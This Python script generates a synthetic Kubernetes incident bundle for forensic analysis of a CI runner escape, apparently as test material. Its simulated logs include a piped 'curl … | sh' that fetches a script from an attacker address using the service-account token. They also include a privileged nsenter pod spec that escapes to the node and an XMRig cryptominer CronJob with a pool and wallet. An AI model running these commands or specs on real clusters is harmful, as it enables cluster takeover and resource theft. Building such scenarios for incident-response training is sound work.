#!/usr/bin/env python3
"""Writes the CI-runner escape scenario bundle (bundle/ next to this script); README.md tells the story, the known
answers and each file's provenance. Deterministic: same bytes on every run (gzip members carry mtime 0 and no name).
Run: python3 make_ci_runner_scenario.py"""
import json, os, shutil, sys, time

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "bundle")
DAY = "2026-11-23"

sys.dont_write_bytecode = True  # no __pycache__ among the test resources
sys.path.insert(0, os.path.dirname(HERE))
from bundle_files import AuditLog, BundleFiles  # noqa: E402 (beside the scenarios)
_files = BundleFiles(DAY, OUT)
epoch, ts, tus, tsec, write, jl = _files.epoch, _files.ts, _files.tus, _files.tsec, _files.write, _files.jl

# ------------------------------------------------------------------------------------------------------ entities
ACCT, REGION, CLUSTER = "314159265358", "eu-west-1", "build-eks"
VPC, SUBNET, AZ_ID = "vpc-0b1d2e3f4a5b6c7d8", "subnet-0c7a1e2d3f4b5a697", "euw1-az2"
NODE = "ip-10-61-7-19.eu-west-1.compute.internal"
NODE_IP, INSTANCE, ENI = "10.61.7.19", "i-0f3e2d1c0b9a87654", "eni-0a1b2c3d4e5f60789"
NODE_UID = "4c1d7e2a-9b3f-4e8d-a6c5-0f1e2d3c4b5a"
NODE_ROLE_NAME = "build-eks-ng-NodeInstanceRole-7QX2M4K9P1ZL"
NODE_ROLE = "arn:aws:iam::%s:role/%s" % (ACCT, NODE_ROLE_NAME)
NODE_SESSION = "arn:aws:sts::%s:assumed-role/%s/%s" % (ACCT, NODE_ROLE_NAME, INSTANCE)
NODE_KEY = "ASIAUBUILDNODE7Q2M4K"
ATTACKER = "198.51.100.143"
POOL_IP, POOL = "203.0.113.211", "xmr.pool-eu.example"
RUNNER_MGR_IP = "10.61.9.140"  # the gitlab-runner manager pod, on another node
NS = "gitlab-runner"
SA = "runner-jobs"
SA_USER = "system:serviceaccount:%s:%s" % (NS, SA)
SA_GROUPS = ["system:serviceaccounts", "system:serviceaccounts:" + NS, "system:authenticated"]
# the malicious CI image (a look-alike of a build image on Docker Hub) and its digest
MAL_REPO, MAL_TAG = "docker.io/devtoolz/node-builder", "18"
MAL_DIGEST = "sha256:" + "7f3a9e1c" * 8
MAL_IMAGE_ID = "sha256:" + "a41c0d3e" * 8
HELPER_REPO = "registry.gitlab.com/gitlab-org/gitlab-runner/gitlab-runner-helper"
HELPER_DIGEST = "sha256:" + "4d2c6b8a" * 8
# the compromised CI job pod (GitLab Runner's Kubernetes executor: runner-<token>-project-<id>-concurrent-<n>-<rand>)
JOB = "runner-xk3fz9q1-project-4711-concurrent-0-8yq2w7lb"
JOB_UID, JOB_IP = "0c4e8a2f-5b1d-4e7a-9c3f-6a2b8d1e4f70", "10.61.7.88"
JOB_SANDBOX, BUILD_CTR, HELPER_CTR = "5b0c" + "d4" * 30, "b71d" + "a3" * 30, "4e1b" + "c2" * 30
TOKEN_JTI = "JTI=9e7c2a41-3b5d-4f6e-8a1c-2d3e4f5a6b7c"
# the privileged pod the job's token created: hostNetwork (its address is the node's), hostPID, / mounted
SHELL, SHELL_UID, SHELL_CTR = "node-shell-q7w2x", "6a2f1e3d-7c4b-4a5e-9d8f-1b2c3d4e5f60", "e5c1" + "9b" * 30
SHELL_SANDBOX = "5b1c" + "e6" * 30
ALPINE = "docker.io/library/alpine"
ALPINE_DIGEST = "sha256:" + "1e2d3c4b" * 8
# the CronJob the stolen token created from outside, and the miner pod it ran
CRON = "cache-cleanup"
CRON_JOB = CRON + "-29924050"  # the CronJob controller names a Job <cronjob>-<scheduled time in minutes since the epoch>
MINER, MINER_UID, MINER_IP = CRON_JOB + "-7sk4d", "2d8e4f6a-1c3b-4d5e-8f7a-9b0c1d2e3f4a", "10.61.7.131"
MINER_SANDBOX, MINER_CTR = "5b2c" + "f7" * 30, "c0a1" + "e8" * 30
# bystanders on the same node
SHOP, SHOP_UID, SHOP_IP = "frontend-6b8d9f7c4-h5j6k", "7b3c5d9e-2f1a-4b6c-8d0e-3f4a5b6c7d8e", "10.61.7.54"
SHOP_CTR, SHOP_DIGEST = "f00d" + "11" * 30, "sha256:" + "0fe1" * 16
SHOP_REPO = "%s.dkr.ecr.%s.amazonaws.com/shop/frontend" % (ACCT, REGION)
OTHER = "runner-xk3fz9q1-project-1200-concurrent-1-p0o9i8u7"  # a legitimate CI job, same service account
OTHER_UID, OTHER_IP, OTHER_CTR = "8c4d6e0f-3a2b-4c7d-9e1f-4a5b6c7d8e9f", "10.61.7.102", "0bd1" + "55" * 30
NODE20, NODE20_DIGEST = "docker.io/library/node", "sha256:" + "2b3c4d5e" * 8
FLUENT, FLUENT_UID, FLUENT_CTR = "fluent-bit-k7x2m", "9d5e7f1a-4b3c-4d8e-a0f2-5b6c7d8e9f0a", "f1b0" + "77" * 30
FALCO_POD, FALCO_UID, FALCO_CTR = "falco-x7k2p", "3e4f5a6b-7c8d-4e9f-a0b1-c2d3e4f5a6b7", "fa1c" + "0a" * 30
OPS = "arn:aws:sts::%s:assumed-role/AWSReservedSSO_EKSAdmin_5f2e8c1d7a9b3e46/dana" % ACCT

# ----------------------------------------------------------------------------------------------- Kubernetes audit
audit = AuditLog(_files, "7a11d0c2-%04x-4%03x-8000-%012d", 4210, "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46").event

KUBELET = ("system:node:" + NODE, ["system:nodes", "system:authenticated"])
KUBELET_UA = "kubelet/v1.31.2 (linux/amd64) kubernetes/5864a46"

def token_extra(node=True):
    """What a bound service account token adds to the request's user: the pod it is bound to (and, since 1.30, the
    node that pod runs on) and the token's id (JTI)."""
    x = {"authentication.kubernetes.io/credential-id": [TOKEN_JTI],
         "authentication.kubernetes.io/pod-name": [JOB], "authentication.kubernetes.io/pod-uid": [JOB_UID]}
    if node:
        x["authentication.kubernetes.io/node-name"] = [NODE]
        x["authentication.kubernetes.io/node-uid"] = [NODE_UID]
    return x

def pod_ref(name, ns=NS, sub=None):
    r = {"resource": "pods", "namespace": ns, "name": name, "apiVersion": "v1"}
    if sub: r["subresource"] = sub
    return r

def status_patch(uid, ip, host_ip, started, statuses):
    """The kubelet's strategic-merge status patch (audit level Request for system:nodes: the request body, no
    response): what it carries when a pod starts."""
    return {"metadata": {"uid": uid},
            "status": {"$setElementOrder/conditions": [{"type": "PodReadyToStartContainers"}, {"type": "Initialized"},
                                                       {"type": "Ready"}, {"type": "ContainersReady"}, {"type": "PodScheduled"}],
                       "conditions": [{"lastTransitionTime": started, "status": "True", "type": "Ready"},
                                      {"lastTransitionTime": started, "status": "True", "type": "ContainersReady"}],
                       "containerStatuses": statuses, "hostIP": host_ip, "hostIPs": [{"ip": host_ip}],
                       "phase": "Running", "podIP": ip, "podIPs": [{"ip": ip}], "startTime": started}}

def cstatus(name, cid, image, image_id, started):
    return {"containerID": "containerd://" + cid, "image": image, "imageID": image_id, "lastState": {}, "name": name,
            "ready": True, "restartCount": 0, "started": True, "state": {"running": {"startedAt": started}}}

def job_pod_spec():
    return {"kind": "Pod", "apiVersion": "v1",
            "metadata": {"name": JOB, "namespace": NS, "uid": JOB_UID, "creationTimestamp": tsec("14:00:00"),
                         "labels": {"pod": "runner-xk3fz9q1-project-4711-concurrent-0", "project.runner.gitlab.com/id": "4711"},
                         "annotations": {"job.runner.gitlab.com/id": "982231", "project.runner.gitlab.com/url":
                                         "https://gitlab.example.com/tools/node-utils"}},
            "spec": {"serviceAccountName": SA, "restartPolicy": "Never",
                     "containers": [{"name": "build", "image": MAL_REPO + ":" + MAL_TAG,
                                     "command": ["sh", "-c", "if [ -x /usr/local/bin/bash ]; then\n\texec /usr/local/bin/bash \nelif [ -x /bin/sh ]; then\n\texec /bin/sh \nfi\n"]},
                                    {"name": "helper", "image": HELPER_REPO + ":x86_64-v17.5.0"}]},
            "status": {"phase": "Pending", "qosClass": "BestEffort"}}

def shell_pod(with_status):
    p = {"kind": "Pod", "apiVersion": "v1",
         "metadata": {"name": SHELL, "namespace": NS},
         "spec": {"nodeName": NODE, "hostPID": True, "hostNetwork": True, "hostIPC": True,
                  "containers": [{"name": "shell", "image": ALPINE + ":3.20",
                                  "command": ["nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "sleep", "infinity"],
                                  "securityContext": {"privileged": True},
                                  "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
                  "volumes": [{"name": "host", "hostPath": {"path": "/", "type": ""}}],
                  "tolerations": [{"operator": "Exists"}]}}
    if with_status:
        p["metadata"].update({"uid": SHELL_UID, "creationTimestamp": tsec("14:00:25"), "resourceVersion": "1887412"})
        p["spec"]["serviceAccountName"] = "default"
        p["status"] = {"phase": "Pending", "qosClass": "BestEffort"}
    return p

def cronjob(with_status):
    c = {"kind": "CronJob", "apiVersion": "batch/v1",
         "metadata": {"name": CRON, "namespace": NS},
         "spec": {"schedule": "*/10 * * * *", "concurrencyPolicy": "Forbid", "successfulJobsHistoryLimit": 0,
                  "jobTemplate": {"spec": {"template": {"spec": {
                      "restartPolicy": "OnFailure",
                      "containers": [{"name": "cleanup", "image": MAL_REPO + "@" + MAL_DIGEST,
                                      "command": ["/usr/local/bin/node-gc", "-o", "stratum+tcp://%s:3333" % POOL, "-u",
                                                  "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
                                                  "-k", "--donate-level", "0", "--no-color"],
                                      "resources": {"limits": {"cpu": "1500m"}}}]}}}}}}
    if with_status:
        c["metadata"].update({"uid": "5f6a7b8c-9d0e-4f1a-b2c3-d4e5f6a7b8c9", "creationTimestamp": tsec("14:05:30"),
                              "resourceVersion": "1889120", "generation": 1})
        c["status"] = {}
    return c

def miner_pod():
    return {"kind": "Pod", "apiVersion": "v1",
            "metadata": {"name": MINER, "generateName": CRON_JOB + "-", "namespace": NS, "uid": MINER_UID,
                         "creationTimestamp": tsec("14:10:00"),
                         "labels": {"batch.kubernetes.io/controller-uid": "1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d",
                                    "batch.kubernetes.io/job-name": CRON_JOB, "job-name": CRON_JOB},
                         "ownerReferences": [{"apiVersion": "batch/v1", "kind": "Job", "name": CRON_JOB,
                                              "uid": "1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d", "controller": True,
                                              "blockOwnerDeletion": True}]},
            "spec": {"serviceAccountName": "default", "restartPolicy": "OnFailure",
                     "containers": cronjob(False)["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"]},
            "status": {"phase": "Pending", "qosClass": "Burstable"}}

def audit_log():
    ev = []
    ctl = lambda who: "system:serviceaccount:kube-system:" + who
    ctl_groups = ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]
    kcm_ua = lambda who: "kube-controller-manager/v1.31.2 (linux/amd64) kubernetes/5864a46/system:serviceaccount:kube-system:" + who
    # the node joined at 07:58 (its Node object names its instance)
    ev.append(audit("07:58:02", 118220, "create", "/api/v1/nodes", *KUBELET, NODE_IP,
                    {"resource": "nodes", "name": NODE, "apiVersion": "v1"}, code=201, ua=KUBELET_UA,
                    request={"kind": "Node", "apiVersion": "v1", "metadata": {"name": NODE, "labels": {
                        "kubernetes.io/hostname": NODE, "topology.kubernetes.io/zone": "eu-west-1b",
                        "node.kubernetes.io/instance-type": "m6i.xlarge", "eks.amazonaws.com/nodegroup": "ci-builders"}},
                             "spec": {"providerID": "aws:///eu-west-1b/" + INSTANCE}, "status": {"addresses": [
                                 {"type": "InternalIP", "address": NODE_IP}, {"type": "Hostname", "address": NODE}]}},
                    response={"kind": "Node", "apiVersion": "v1", "metadata": {"name": NODE, "uid": NODE_UID,
                              "creationTimestamp": tsec("07:58:02")}, "spec": {"providerID": "aws:///eu-west-1b/" + INSTANCE}}))
    # the logging DaemonSet's pod on the node: privileged with host paths, made by the DaemonSet controller (no signal)
    ev.append(audit("07:58:40", 220110, "create", "/api/v1/namespaces/amazon-cloudwatch/pods", ctl("daemon-set-controller"),
                    ctl_groups, "10.61.0.12", pod_ref(FLUENT, "amazon-cloudwatch"),
                    code=201, ua=kcm_ua("daemon-set-controller"),
                    request={"kind": "Pod", "apiVersion": "v1", "metadata": {"generateName": "fluent-bit-", "namespace": "amazon-cloudwatch"},
                             "spec": {"nodeName": NODE, "serviceAccountName": "fluent-bit", "hostNetwork": True,
                                      "containers": [{"name": "fluent-bit", "image": "public.ecr.aws/aws-observability/aws-for-fluent-bit:2.32.2",
                                                      "securityContext": {"privileged": True},
                                                      "volumeMounts": [{"name": "varlog", "mountPath": "/var/log", "readOnly": True}]}],
                                      "volumes": [{"name": "varlog", "hostPath": {"path": "/var/log", "type": ""}}]}},
                    response={"kind": "Pod", "apiVersion": "v1", "metadata": {"name": FLUENT, "namespace": "amazon-cloudwatch",
                              "uid": FLUENT_UID}, "spec": {"nodeName": NODE}, "status": {"phase": "Pending"}}))
    # 14:00:00 the runner manager creates the CI job's pod (an ordinary build pod)
    ev.append(audit("14:00:00", 31544, "create", "/api/v1/namespaces/%s/pods" % NS,
                    "system:serviceaccount:%s:gitlab-runner" % NS, SA_GROUPS, RUNNER_MGR_IP, pod_ref("", NS) | {"name": JOB},
                    code=201, ua="gitlab-runner/17.5.0 (17-5-stable; go1.22.7; linux/amd64)",
                    request={k: v for k, v in job_pod_spec().items() if k != "status"}, response=job_pod_spec()))
    ev.append(audit("14:00:01", 2311, "create", "/api/v1/namespaces/%s/pods/%s/binding" % (NS, JOB), "system:kube-scheduler",
                    ["system:authenticated"], "10.61.0.12", pod_ref(JOB, NS, "binding"), code=201,
                    ua="kube-scheduler/v1.31.2 (linux/amd64) kubernetes/5864a46/scheduler",
                    request={"kind": "Binding", "apiVersion": "v1", "metadata": {"name": JOB, "namespace": NS, "uid": JOB_UID},
                             "target": {"kind": "Node", "name": NODE}}))
    ev.append(audit("14:00:09", 441902, "patch", "/api/v1/namespaces/%s/pods/%s/status" % (NS, JOB), *KUBELET, NODE_IP,
                    pod_ref(JOB, NS, "status"), level="Request", ua=KUBELET_UA,
                    request=status_patch(JOB_UID, JOB_IP, NODE_IP, tsec("14:00:02"), [
                        cstatus("build", BUILD_CTR, MAL_REPO + ":" + MAL_TAG, MAL_REPO + "@" + MAL_DIGEST, tsec("14:00:08")),
                        cstatus("helper", HELPER_CTR, HELPER_REPO + ":x86_64-v17.5.0", HELPER_REPO + "@" + HELPER_DIGEST, tsec("14:00:08"))])))
    # the legitimate CI job next to it (same service account, its own token)
    ev.append(audit("14:01:30", 100200, "patch", "/api/v1/namespaces/%s/pods/%s/status" % (NS, OTHER), *KUBELET, NODE_IP,
                    pod_ref(OTHER, NS, "status"), level="Request", ua=KUBELET_UA,
                    request=status_patch(OTHER_UID, OTHER_IP, NODE_IP, tsec("14:01:22"), [
                        cstatus("build", OTHER_CTR, NODE20 + ":20", NODE20 + "@" + NODE20_DIGEST, tsec("14:01:29"))])))
    # 14:00:20 the build's postinstall script uses the pod's token from the pod: lists secrets (Metadata level:
    # EKS's audit policy never logs secret bodies), then creates a privileged pod on its own node
    ev.append(audit("14:00:20", 781004, "list", "/api/v1/namespaces/%s/secrets?limit=500" % NS, SA_USER, SA_GROUPS, JOB_IP,
                    {"resource": "secrets", "namespace": NS, "apiVersion": "v1"}, level="Metadata", ua="kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46",
                    extra=token_extra()))
    ev.append(audit("14:00:25", 120877, "create", "/api/v1/namespaces/%s/pods?fieldManager=kubectl-run" % NS, SA_USER, SA_GROUPS,
                    JOB_IP, pod_ref("", NS) | {"name": SHELL}, code=201, extra=token_extra(),
                    request=shell_pod(False), response=shell_pod(True),
                    annotations={"authorization.k8s.io/decision": "allow",
                                 "authorization.k8s.io/reason": "RBAC: allowed by RoleBinding \"runner-jobs/gitlab-runner\" of Role \"runner-jobs\" to ServiceAccount \"runner-jobs/gitlab-runner\"",
                                 "pod-security.kubernetes.io/enforce-policy": "privileged:latest"}))
    ev.append(audit("14:00:27", 902311, "patch", "/api/v1/namespaces/%s/pods/%s/status" % (NS, SHELL), *KUBELET, NODE_IP,
                    pod_ref(SHELL, NS, "status"), level="Request", ua=KUBELET_UA,
                    request=status_patch(SHELL_UID, NODE_IP, NODE_IP, tsec("14:00:25"), [
                        cstatus("shell", SHELL_CTR, ALPINE + ":3.20", ALPINE + "@" + ALPINE_DIGEST, tsec("14:00:27"))])))
    # 14:05:20 the token, copied out, used from the attacker's address: what may I do, then a CronJob for persistence
    ev.append(audit("14:05:20", 5523, "create", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", SA_USER, SA_GROUPS,
                    ATTACKER, {"resource": "selfsubjectrulesreviews", "apiGroup": "authorization.k8s.io", "apiVersion": "v1"},
                    code=201, level="Metadata", extra=token_extra()))
    # 14:05:25 and another namespace's secrets (forbidden: the service account has no rights there): still the job pod's
    # token, the object in kube-system
    ev.append(audit("14:05:25", 77120, "list", "/api/v1/namespaces/kube-system/secrets?limit=500", SA_USER, SA_GROUPS,
                    ATTACKER, {"resource": "secrets", "namespace": "kube-system", "apiVersion": "v1"},
                    code=403, level="Metadata", extra=token_extra(),
                    annotations={"authorization.k8s.io/decision": "forbid", "authorization.k8s.io/reason": ""}))
    ev.append(audit("14:05:30", 640019, "create", "/apis/batch/v1/namespaces/%s/cronjobs?fieldManager=kubectl-client-side-apply&fieldValidation=Strict" % NS,
                    SA_USER, SA_GROUPS, ATTACKER,
                    {"resource": "cronjobs", "namespace": NS, "name": CRON, "apiGroup": "batch", "apiVersion": "v1"},
                    code=201, extra=token_extra(), request=cronjob(False), response=cronjob(True)))
    # 14:06:40 the CI job ends; the runner manager deletes its pod (its token stops working)
    ev.append(audit("14:06:40", 330871, "delete", "/api/v1/namespaces/%s/pods/%s" % (NS, JOB),
                    "system:serviceaccount:%s:gitlab-runner" % NS, SA_GROUPS, RUNNER_MGR_IP, pod_ref(JOB, NS),
                    ua="gitlab-runner/17.5.0 (17-5-stable; go1.22.7; linux/amd64)",
                    request={"kind": "DeleteOptions", "apiVersion": "v1", "propagationPolicy": "Background"}, level="Request"))
    # 14:10:00 the CronJob controller's Job, the Job controller's pod: the miner
    ev.append(audit("14:10:00", 12004, "create", "/apis/batch/v1/namespaces/%s/jobs" % NS, ctl("cronjob-controller"), ctl_groups,
                    "10.61.0.12", {"resource": "jobs", "namespace": NS, "name": CRON_JOB, "apiGroup": "batch", "apiVersion": "v1"},
                    code=201, level="Request", ua=kcm_ua("cronjob-controller"),
                    request={"kind": "Job", "apiVersion": "batch/v1", "metadata": {"name": CRON_JOB, "namespace": NS,
                             "ownerReferences": [{"apiVersion": "batch/v1", "kind": "CronJob", "name": CRON,
                                                  "uid": "5f6a7b8c-9d0e-4f1a-b2c3-d4e5f6a7b8c9", "controller": True, "blockOwnerDeletion": True}],
                             "annotations": {"batch.kubernetes.io/cronjob-scheduled-timestamp": tsec("14:10:00")}},
                             "spec": cronjob(False)["spec"]["jobTemplate"]["spec"]}))
    ev.append(audit("14:10:00", 290551, "create", "/api/v1/namespaces/%s/pods" % NS, ctl("job-controller"), ctl_groups, "10.61.0.12",
                    pod_ref("", NS) | {"name": MINER}, code=201, ua=kcm_ua("job-controller"),
                    request={k: v for k, v in miner_pod().items() if k != "status"}, response=miner_pod()))
    ev.append(audit("14:10:06", 511093, "patch", "/api/v1/namespaces/%s/pods/%s/status" % (NS, MINER), *KUBELET, NODE_IP,
                    pod_ref(MINER, NS, "status"), level="Request", ua=KUBELET_UA,
                    request=status_patch(MINER_UID, MINER_IP, NODE_IP, tsec("14:10:01"), [
                        cstatus("cleanup", MINER_CTR, MAL_REPO + "@" + MAL_DIGEST, MAL_REPO + "@" + MAL_DIGEST, tsec("14:10:05"))])))
    # the shop's frontend on the same node restarted its container at 13:30 (status patch): a bystander
    ev.append(audit("13:30:04", 77120, "patch", "/api/v1/namespaces/shop/pods/%s/status" % SHOP, *KUBELET, NODE_IP,
                    pod_ref(SHOP, "shop", "status"), level="Request", ua=KUBELET_UA,
                    request=status_patch(SHOP_UID, SHOP_IP, NODE_IP, tsec("08:02:11"), [
                        cstatus("frontend", SHOP_CTR, SHOP_REPO + ":4.18.2", SHOP_REPO + "@" + SHOP_DIGEST, tsec("13:30:03"))])))
    # 14:40 the responder (SSO admin through an EKS access entry) looks and removes the CronJob
    ops_user = ("arn:aws:sts::%s:assumed-role/AWSReservedSSO_EKSAdmin_5f2e8c1d7a9b3e46/{{SessionName}}" % ACCT)
    ev.append(audit("14:40:12", 66001, "delete", "/apis/batch/v1/namespaces/%s/cronjobs/%s" % (NS, CRON), "dana",
                    ["system:authenticated"], "10.61.200.17",
                    {"resource": "cronjobs", "namespace": NS, "name": CRON, "apiGroup": "batch", "apiVersion": "v1"},
                    level="Request", request={"kind": "DeleteOptions", "apiVersion": "v1", "propagationPolicy": "Background"},
                    extra={"accessKeyId": ["ASIAUOPSDANA00000001"], "arn": [OPS], "canonicalArn": [
                        "arn:aws:iam::%s:role/AWSReservedSSO_EKSAdmin_5f2e8c1d7a9b3e46" % ACCT], "principalId": ["AROAUOPSDANA0000001"],
                        "sessionName": ["dana"], "sigs.k8s.io/aws-iam-authenticator/principalId": ["AROAUOPSDANA0000001"]}))
    ev.sort(key=lambda e: e["requestReceivedTimestamp"])
    return ev

def cloudwatch_export(events):
    """CloudWatch Logs export to S3: one object per log stream, each line '<ISO-8601 ms timestamp> <message>'."""
    lines = []
    for e in events:
        t = e["stageTimestamp"][:23] + "Z"
        lines.append(t + " " + json.dumps(e, separators=(",", ":")) + "\n")
    return "".join(lines)

# ---------------------------------------------------------------------------------------------- kubectl get events
_ev_n = [0]
def k8s_event(ns, obj_kind, obj_name, obj_uid, reason, message, t, component="kubelet", field=None, typ="Normal",
              api="v1", count=1):
    _ev_n[0] += 1
    io = {"apiVersion": api, "kind": obj_kind, "name": obj_name, "namespace": ns, "uid": obj_uid,
          "resourceVersion": str(1886000 + _ev_n[0])}
    if field: io["fieldPath"] = field
    e = {"apiVersion": "v1", "kind": "Event", "count": count, "involvedObject": io, "message": message,
         "metadata": {"creationTimestamp": tsec(t), "name": "%s.%016x" % (obj_name, 0x1879a3b0c0000000 + _ev_n[0] * 7919),
                      "namespace": ns, "resourceVersion": str(1887000 + _ev_n[0]),
                      "uid": "e0e0%04x-1111-4222-8333-%012d" % (_ev_n[0], _ev_n[0])},
         "reason": reason, "type": typ}
    if component == "default-scheduler":
        # written through events.k8s.io/v1 by the scheduler: eventTime only, no first/lastTimestamp, no source
        e.update({"eventTime": tus(t, 412003), "firstTimestamp": None, "lastTimestamp": None, "action": "Binding",
                  "reportingComponent": "default-scheduler", "reportingInstance": "default-scheduler-ip-10-61-0-12",
                  "source": {}})
    else:
        e.update({"eventTime": None, "firstTimestamp": tsec(t), "lastTimestamp": tsec(t),
                  "reportingComponent": component, "reportingInstance": NODE if component == "kubelet" else "",
                  "source": {"component": component, "host": NODE} if component == "kubelet" else {"component": component}})
    return e

def events():
    ev = []
    c = lambda name: "spec.containers{%s}" % name
    ev.append(k8s_event(NS, "Pod", JOB, JOB_UID, "Scheduled", "Successfully assigned %s/%s to %s" % (NS, JOB, NODE), "14:00:01",
                        component="default-scheduler"))
    ev.append(k8s_event(NS, "Pod", JOB, JOB_UID, "Pulling", 'Pulling image "%s:%s"' % (MAL_REPO, MAL_TAG), "14:00:03", field=c("build")))
    ev.append(k8s_event(NS, "Pod", JOB, JOB_UID, "Pulled",
                        'Successfully pulled image "%s:%s" in 4.112s (4.112s including waiting). Image size: 412339871 bytes.' % (MAL_REPO, MAL_TAG),
                        "14:00:07", field=c("build")))
    ev.append(k8s_event(NS, "Pod", JOB, JOB_UID, "Created", "Created container build", "14:00:08", field=c("build")))
    ev.append(k8s_event(NS, "Pod", JOB, JOB_UID, "Started", "Started container build", "14:00:08", field=c("build")))
    ev.append(k8s_event(NS, "Pod", JOB, JOB_UID, "Pulled", 'Container image "%s:x86_64-v17.5.0" already present on machine' % HELPER_REPO,
                        "14:00:08", field=c("helper")))
    ev.append(k8s_event(NS, "Pod", SHELL, SHELL_UID, "Pulled", 'Container image "%s:3.20" already present on machine' % ALPINE,
                        "14:00:26", field=c("shell")))
    ev.append(k8s_event(NS, "Pod", SHELL, SHELL_UID, "Created", "Created container shell", "14:00:26", field=c("shell")))
    ev.append(k8s_event(NS, "Pod", SHELL, SHELL_UID, "Started", "Started container shell", "14:00:27", field=c("shell")))
    ev.append(k8s_event(NS, "Pod", JOB, JOB_UID, "Killing", "Stopping container build", "14:06:40", field=c("build")))
    ev.append(k8s_event(NS, "CronJob", CRON, "5f6a7b8c-9d0e-4f1a-b2c3-d4e5f6a7b8c9", "SuccessfulCreate", "Created job " + CRON_JOB,
                        "14:10:00", component="cronjob-controller", api="batch/v1"))
    ev.append(k8s_event(NS, "Job", CRON_JOB, "1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d", "SuccessfulCreate", "Created pod: " + MINER,
                        "14:10:00", component="job-controller", api="batch/v1"))
    ev.append(k8s_event(NS, "Pod", MINER, MINER_UID, "Scheduled", "Successfully assigned %s/%s to %s" % (NS, MINER, NODE), "14:10:00",
                        component="default-scheduler"))
    ev.append(k8s_event(NS, "Pod", MINER, MINER_UID, "Pulled", 'Container image "%s@%s" already present on machine' % (MAL_REPO, MAL_DIGEST),
                        "14:10:04", field=c("cleanup")))
    ev.append(k8s_event(NS, "Pod", MINER, MINER_UID, "Created", "Created container cleanup", "14:10:05", field=c("cleanup")))
    ev.append(k8s_event(NS, "Pod", MINER, MINER_UID, "Started", "Started container cleanup", "14:10:05", field=c("cleanup")))
    # bystanders: the shop frontend's readiness probe flapping, the legitimate CI job
    ev.append(k8s_event("shop", "Pod", SHOP, SHOP_UID, "Unhealthy", "Readiness probe failed: Get \"http://%s:8080/healthz\": context deadline exceeded (Client.Timeout exceeded while awaiting headers)" % SHOP_IP,
                        "14:12:31", field=c("frontend"), typ="Warning", count=3))
    ev.append(k8s_event(NS, "Pod", OTHER, OTHER_UID, "Pulled", 'Container image "%s:20" already present on machine' % NODE20, "14:01:28",
                        field=c("build")))
    ev.append(k8s_event(NS, "Pod", OTHER, OTHER_UID, "Started", "Started container build", "14:01:29", field=c("build")))
    return {"apiVersion": "v1", "items": ev, "kind": "List", "metadata": {"resourceVersion": ""}}

# ----------------------------------------------------------------------------------------------- CRI container logs
def cri(lines):
    return "".join("%s %s %s %s\n" % l for l in lines)

def cri_job_build():
    return cri([
        (ts("14:00:10", 101882110), "stdout", "F", "Running with gitlab-runner 17.5.0 (66269445)"),
        (ts("14:00:11", 913004211), "stdout", "F", "$ npm ci --no-audit"),
        (ts("14:00:17", 33510022), "stdout", "F", ""),
        (ts("14:00:17", 33611380), "stdout", "F", "> node-builder-utils@2.1.4 postinstall"),
        (ts("14:00:17", 33711002), "stdout", "P", "> curl -s http://%s/k.sh | sh -s -- --token /var/run/secrets/kubernetes.io/serviceaccount/token" % ATTACKER),
        (ts("14:00:17", 33711990), "stdout", "F", " --api https://kubernetes.default.svc"),
        (ts("14:00:26", 610411000), "stdout", "F", "pod/%s created" % SHELL),
        (ts("14:00:41", 5002113), "stdout", "F", "added 812 packages in 29s"),
        (ts("14:06:38", 118003220), "stdout", "F", "Job succeeded"),
    ])

def cri_other_build():
    return cri([
        (ts("14:01:31", 0), "stdout", "F", "$ npm ci --no-audit"),
        (ts("14:01:52", 300000000), "stdout", "F", "added 1203 packages in 21s"),
        (ts("14:02:40", 0), "stdout", "F", "$ npm test"),
        (ts("14:03:12", 0), "stdout", "F", "Tests: 418 passed, 418 total"),
    ])

def cri_shop():
    out = []
    clients = ["192.0.2.31", "192.0.2.88", "192.0.2.140", "192.0.2.201"]
    for i in range(40):
        s = epoch("13:58:00") + i * 45
        hms = time.strftime("%H:%M:%S", time.gmtime(s))
        d = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime(s))
        out.append((ts(hms, 1000 * i), "stdout", "F", '%s - - [%s] "GET /product/%d HTTP/1.1" 200 5123 "-" "Mozilla/5.0 (X11; Linux x86_64)"'
                    % (clients[i % 4], d, 1000 + i)))
    return cri(out)

def xmrig_lines(start_s, n, reconnect=False):
    """XMRig 6.x console output (--no-color), base/io/log's '[YYYY-MM-DD HH:MM:SS.mmm] ' prefix in the node's local
    time (UTC); tags padded to 8. The CRI line's timestamp is the kubelet's."""
    out = []
    def at(s):
        return time.strftime("%Y-%m-%d %H:%M:%S", time.gmtime(int(s))) + ".%03d" % int((s % 1) * 1000)
    def add(s, text):
        hms = time.strftime("%H:%M:%S", time.gmtime(int(s)))
        out.append((ts(hms, int((s % 1) * 1e9) + 500000), "stdout", "F", "[%s]  %s" % (at(s), text)))
    s = start_s
    if not reconnect:
        add(s, "config   * ABOUT        XMRig/6.21.3 gcc/11.2.1 (built for Linux x86-64, 64 bit)")
        add(s + 0.002, "config   * DONATE       0%")
        add(s + 0.003, "config   * POOL #1      %s:3333 algo auto" % POOL)
        add(s + 0.9, "randomx  init dataset algo rx/0 (2 threads) seed 1f4b8e1c9d2a3b4c...")
    else:
        add(s, "net      %s:3333 read error: \"end of file\"" % POOL)
        s += 5
    add(s + 1.217, "net      use pool %s:3333  %s" % (POOL, POOL_IP))
    add(s + 1.218, "net      new job from %s:3333 diff 120001 algo rx/0 height 3281422 (21 tx)" % POOL)
    for i in range(n):
        t = s + 30 + i * 37.5
        add(t, "cpu      accepted (%d/0) diff 120001 (41 ms)" % (i + 1))
        if i % 3 == 2:
            add(t + 0.5, "miner    speed 10s/60s/15m 1843.2 1840.7 n/a H/s max 1851.0 H/s")
    return out

def cri_miner():
    first = xmrig_lines(epoch("14:10:06"), 7)
